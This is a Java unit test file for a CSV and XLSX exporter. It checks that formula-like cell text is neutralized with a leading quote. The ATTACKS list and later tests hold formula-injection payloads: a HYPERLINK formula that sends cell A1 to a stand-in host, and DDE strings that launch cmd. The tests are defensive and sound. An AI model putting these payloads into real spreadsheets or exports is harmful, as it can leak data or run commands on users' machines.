package org.ieum.shared.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class TableWriterTests {

	static final List<String> ATTACKS = List.of("=HYPERLINK(\"http://x.example/?\"&A1)", "@SUM(1+1)",
			"+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

	@Test
	void textThatASpreadsheetWouldRunGetsAQuoteInFront() {
		for (String attack : ATTACKS) {
			assertThat(TableWriter.neutralize(attack)).isEqualTo("'" + attack);
		}
		assertThat(TableWriter.neutralize("-")).isEqualTo("'-");
		assertThat(TableWriter.neutralize("+82 10-1234-5678")).isEqualTo("'+82 10-1234-5678");
	}

	@Test
	void ordinaryTextAndPlainNumbersStayAsTheyAre() {
		for (String kept : List.of("-12", "-3.5", "0", "42", "부산 해운대구", "빵집=행복", "051-222-3333", "", " =1")) {
			assertThat(TableWriter.neutralize(kept)).isEqualTo(kept);
		}
		assertThat(TableWriter.neutralize(null)).isNull();
	}

	@Test
	void csvHasABomNeutralizedTextAndNumbersAsWritten() {
		byte[] bytes = TableWriter.bytes(ExportFormat.CSV, "t", w -> {
			w.headings("이름", "값", "메모");
			w.row(ATTACKS.get(0), -12, "-3.5");
			w.row("@SUM(1+1)", 2.5, null);
			w.row("+cmd|' /C calc'!A0", new BigDecimal("-7.25"), "쉼표, \"따옴표\"");
			w.row("-2+3+cmd|' /C calc'!A0", -4.0, "\r\n=줄바꿈");
		});
		assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
		List<List<String>> rows = parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8));
		assertThat(rows.get(0)).containsExactly("이름", "값", "메모");
		assertThat(rows.get(1)).containsExactly("'" + ATTACKS.get(0), "-12", "-3.5");
		assertThat(rows.get(2)).containsExactly("'@SUM(1+1)", "2.5", "");
		assertThat(rows.get(3)).containsExactly("'+cmd|' /C calc'!A0", "-7.25", "쉼표, \"따옴표\"");
		assertThat(rows.get(4)).containsExactly("'-2+3+cmd|' /C calc'!A0", "-4", "'\r\n=줄바꿈");
	}

	@Test
	void xlsxKeepsNumbersNumericAndTextNeutralized() throws Exception {
		byte[] bytes = TableWriter.bytes(ExportFormat.XLSX, "조직/목록?", w -> {
			w.headings("이름", "값");
			w.row("=HYPERLINK(\"http://evil.example\")", -12);
			w.row("-3.5", -3.5);
			w.row("@SUM(1+1)", null);
		});
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
			var sheet = workbook.getSheetAt(0);
			assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("이름");
			Row first = sheet.getRow(1);
			assertThat(first.getCell(0).getCellType()).isEqualTo(CellType.STRING);
			assertThat(first.getCell(0).getStringCellValue()).isEqualTo("'=HYPERLINK(\"http://evil.example\")");
			assertThat(first.getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
			assertThat(first.getCell(1).getNumericCellValue()).isEqualTo(-12.0);
			assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEqualTo("-3.5");
			assertThat(sheet.getRow(2).getCell(1).getNumericCellValue()).isEqualTo(-3.5);
			assertThat(sheet.getRow(3).getCell(0).getStringCellValue()).isEqualTo("'@SUM(1+1)");
			for (Row row : sheet) {
				row.forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA));
			}
		}
	}

	static List<List<String>> parse(String text) {
		try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(new StringReader(text))) {
			return reader.stream().map(CsvRecord::getFields).toList();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}
}
